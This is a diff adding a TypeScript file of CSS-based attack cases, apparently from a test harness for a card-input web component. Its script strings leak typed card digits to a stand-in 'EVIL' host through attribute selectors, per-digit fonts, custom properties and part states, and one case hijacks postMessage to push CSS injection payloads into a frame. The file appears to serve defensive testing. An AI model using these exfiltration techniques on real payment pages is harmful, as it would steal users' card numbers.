@@ -1,0 +1,81 @@
+/** Style sheets alone: what a rule can tell a server by loading, or not loading, an image or a font. */
+import type { Attack } from '../attack.ts';
+
+const wear = `const wear = (text) => { const sheet = new CSSStyleSheet(); sheet.replaceSync(text); document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]; };`;
+
+export const CSS: readonly Attack[] = [
+  {
+    id: 'css-attr',
+    what: 'has a rule per pair of digits, by attribute selectors on the element, its parts and everything in it',
+    aim: 'reading',
+    control: 'reads',
+    script: `${wear}
+      wear(PAIRS.map((pair) => '[value*="' + pair + '"] { background-image: url("' + EVIL + '/' + pair + '") }'
+        + ' shoji-card::part(field)[value*="' + pair + '"], shoji-card *[value*="' + pair + '"], shoji-card[value*="' + pair + '"] { border-image-source: url("' + EVIL + '/' + pair + '") }').join(' '));`,
+  },
+  {
+    id: 'css-part',
+    what: 'has rules for parts in focus, filled, valid and empty',
+    aim: 'reading',
+    control: 'reads',
+    script: `${wear}
+      const parts = ['number', 'input', 'field', 'frame', 'iframe', 'card', 'vault', 'badge', 'error'];
+      wear('naive-card::part(number):focus { background-image: url("' + EVIL + '/control") }');
+      for (const part of parts) for (const state of [':focus', ':placeholder-shown', ':valid', ':invalid', ':autofill', ':focus-within'])
+        try { wear('shoji-card::part(' + part + ')' + state + ' { background-image: url("' + EVIL + '/genuine") }'); } catch { /* no such state here */ }`,
+  },
+  {
+    id: 'css-font',
+    what: 'has a font per digit, by unicode-range, inherited into the widget and set on its parts',
+    aim: 'reading',
+    control: 'reads',
+    engines: ['chromium', 'firefox'],
+    why: 'WebKitGTK asks for all ten fonts at the first digit, so it tells nothing',
+    script: `${wear}
+      const text = [];
+      for (const digit of '0123456789') text.push('@font-face { font-family: skim; src: url("' + EVIL + '/digit-' + digit + '") format("woff2"); unicode-range: U+003' + digit + ' }');
+      text.push('#control-number, #preview, shoji-card, shoji-card::part(field), shoji-card::part(badge) { font-family: skim, sans-serif !important }');
+      const style = document.createElement('style'); // a constructed sheet loads no fonts in every engine
+      style.textContent = text.join('\\n');
+      document.head.append(style);`,
+  },
+  {
+    id: 'css-var',
+    what: 'sends addresses through custom properties and inherited values, as a theme would',
+    aim: 'reading',
+    control: 'reads',
+    script: `${wear}
+      const address = 'url("' + EVIL + '/genuine")';
+      wear('naive-card::part(number) { background-image: var(--theme) } naive-card { --theme: url("' + EVIL + '/control") }');
+      wear('shoji-card { ' + ['color-text', 'color-background', 'font', 'background', 'border', 'radius', 'image'].map((name) => '--shoji-' + name + ': ' + address + ';').join(' ')
+        + ' font-family: "x); background: ' + "url('" + EVIL + "/genuine')" + '"; quotes: ' + "'}' '*{background:url(" + EVIL + "/genuine)}'" + ' }');
+      whenHosts(() => { for (const host of document.querySelectorAll('shoji-card')) for (const property of ['accentColor', 'caretColor', 'colorScheme', 'fontFamily', 'fontVariantNumeric', 'letterSpacing'])
+        host.style[property] = property === 'fontFamily' ? '"a\\\\";}*{background:' + address + '}"' : address; });`,
+  },
+  {
+    id: 'css-port',
+    what: 'takes the port and sends the frame styles of its own: addresses, ways out of a value, a rule or a text, imports, fonts, unknown properties',
+    aim: 'reading',
+    control: 'reads',
+    alone: true,
+    script: `${wear}
+      wear('naive-card::part(number) { background-image: url("' + EVIL + '/control") }');
+      const at = EVIL + '/genuine';
+      const hostile = ['url(' + at + ')', 'url("' + at + '")', "url('" + at + "')", 'image-set("' + at + '" 1x)', 'cross-fade(url(' + at + '), red)', 'red; background: url(' + at + ')',
+        'red } * { background: url(' + at + ') } a {', 'red !important; background-image: url(' + at + ')', '"a"; background: url(' + at + ')', 'red } @import "' + at + '"; a {',
+        'red } @font-face { font-family: a; src: url(' + at + ') } * { font-family: a } a {', 'var(--x, url(' + at + '))', '\\75rl(' + at + ')', 'URL(' + at + ')', 'u/**/rl(' + at + ')',
+        'src("' + at + '")', 'element(#number)', 'paint(x)', 'env(x, url(' + at + '))'];
+      const names = ['color', 'font-family', 'accent-color', 'color-scheme', 'background-image', 'background', 'list-style-image', 'border-image-source', 'cursor', 'content', 'mask-image', 'filter', '--x', 'quotes', 'src'];
+      const styles = hostile.map((value) => Object.fromEntries(names.map((name) => [name, value])));
+      const original = window.postMessage;
+      window.postMessage = function (data, origin, transfer) {
+        const port = transfer?.[0];
+        if (!(port instanceof MessagePort) || data?.type !== 'init') return original.apply(this ?? window, arguments);
+        const { port1, port2 } = new MessageChannel();
+        port.onmessage = ({ data: message }) => port1.postMessage(message);
+        port1.onmessage = ({ data: message }) => port.postMessage(message);
+        moment(async () => { for (const style of styles) port1.postMessage({ type: 'style', style }); await new Promise((done) => setTimeout(done, 200)); });
+        return original.call(this, { ...data, style: styles[0] }, origin, [port2]);
+      };`,
+  },
+];
